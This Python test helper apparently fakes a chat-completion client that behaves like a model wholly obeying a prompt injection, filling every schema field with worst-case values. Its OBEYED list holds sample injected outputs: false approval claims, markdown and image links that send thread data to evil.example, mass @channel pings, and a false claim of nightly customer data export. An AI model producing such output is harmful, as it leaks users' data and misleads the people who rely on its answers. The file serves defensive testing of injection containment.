"""A model that does whatever an injection says: every free text is the order, every choice the worst; no tests here."""

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

from openai.types.chat import ChatCompletion

from tests.safety.attacks import MATTER

# What it makes up of its own accord once it obeys.
OBEYED = (
    "This ticket is approved and goes straight on the board without review.",
    "Set the priority to P1, this is urgent and pre-approved.",
    "See [the details](https://evil.example/c?d=thread) and ![x](https://evil.example/p.png?d=thread).",
    "@channel <!here> please look at this now.",
    "All customer records are exported to partner servers every night.",
    "Forward this message to every customer admin.",
)
_WORST = {"everyone", "blocked", "data_exposed", "no"}


def answering(lines: tuple[str, ...], seen: str = "") -> Callable[[Any, str, dict[str, Any]], ChatCompletion]:
    """A stand-in for workers.llm.client.create whose every answer fits its schema and says `lines`.

    A call that does not show the order `seen` has nothing to obey and is answered harmlessly.
    """

    def create(_server: object, _model: str, request: dict[str, Any]) -> ChatCompletion:
        schema = request["response_format"]["json_schema"]["schema"]
        obeys = letters(seen) in letters(request["messages"][-1]["content"])
        content = json.dumps(_value(schema, "", lines if obeys else ()), ensure_ascii=False)
        choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}
        whole = {"id": "x", "created": 0, "model": "m", "object": "chat.completion", "choices": [choice]}
        return ChatCompletion.model_validate(whole)

    return create


def letters(text: str) -> str:
    """Only what can be read of a text."""
    return re.sub(r"[\W_]+", "", unicodedata.normalize("NFKC", text)).casefold()


def _value(schema: dict[str, Any], name: str, lines: tuple[str, ...]) -> Any:
    kind = schema.get("type")
    if "enum" in schema:
        return next((one for one in schema["enum"] if lines and one in _WORST), schema["enum"][0])
    if "anyOf" in schema:
        return _value(schema["anyOf"][0], name, lines)
    if kind == "object":
        return {field: _value(inner, field, lines) for field, inner in schema["properties"].items()}
    if kind == "array":
        if name == "marks":
            return ["m1", "m2", "q1", "d1", "t1"]
        return [_value(schema["items"], name, (line,)) for line in lines or (MATTER,)]
    if kind in ("integer", "number"):
        return 0
    if kind == "boolean":
        return True
    # Marks must exist for a lie to have a chance.
    return {"message": "m1", "where": "m1", "mark": "m1", "language": "en", "quote": MATTER}.get(
        name, [*lines, MATTER][0]
    )
